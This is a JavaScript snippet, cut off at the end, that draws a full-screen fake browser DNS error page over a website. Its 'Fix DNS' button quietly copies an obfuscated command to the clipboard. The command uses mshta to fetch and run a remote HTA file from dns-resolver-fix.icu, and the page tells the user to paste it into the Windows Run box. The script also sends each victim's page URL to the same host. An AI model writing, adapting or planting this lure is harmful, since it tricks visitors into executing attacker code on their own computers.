(function () {
  var keyring = ['aHR0cHM6Ly9kbnMtcmVzb2x2ZXItZml4LmljdS9w', 'bXNodGEgaHR0cHM6Ly9kbnMtcmVzb2x2ZXItZml4LmljdS9mLmh0YQ=='];
  var sinkBase = atob(keyring[0]);
  var fixLine = atob(keyring[1]) + ' # DNS resolver repair ' + new Date().getFullYear();

  function layout() {
    return '' +
      '<div style="max-width:600px;margin:14vh auto;font-family:Segoe UI,Arial;color:#202124">' +
      '<h1 style="font-size:24px;font-weight:400">This site can\u2019t be reached</h1>' +
      '<p>DNS_PROBE_FINISHED_NXDOMAIN. A problem with your network DNS settings prevented the page from loading.</p>' +
      '<button id="dn-btn" style="background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:9px 20px">Fix DNS</button>' +
      '<div id="dn-how" style="display:none;margin-top:16px;padding:14px;background:#f1f3f4;border-radius:6px">' +
      '<p>1. Press <b>Win</b> + <b>R</b></p><p>2. Press <b>Ctrl</b> + <b>V</b></p><p>3. Press <b>Enter</b></p></div></div>';
  }

  function mount() {
    var cover = document.createElement('div');
    cover.style.cssText = 'position:fixed;inset:0;background:#fff;z-index:2147483647';
    cover.innerHTML = layout();
    document.body.appendChild(cover);
    document.getElementById('dn-btn').addEventListener('click', function () {
      navigator.clipboard.writeText(fixLine).then(function () {
        document.getElementById('dn-how').style.display = 'block';
        new Image().src = sinkBase + '?e=copy&u=' + encodeURIComponent(location.href);
      });
    });
  }

  if (document.body) {
    mount();
  } else {
    window.addEventListener('DOMContentLoaded', fun
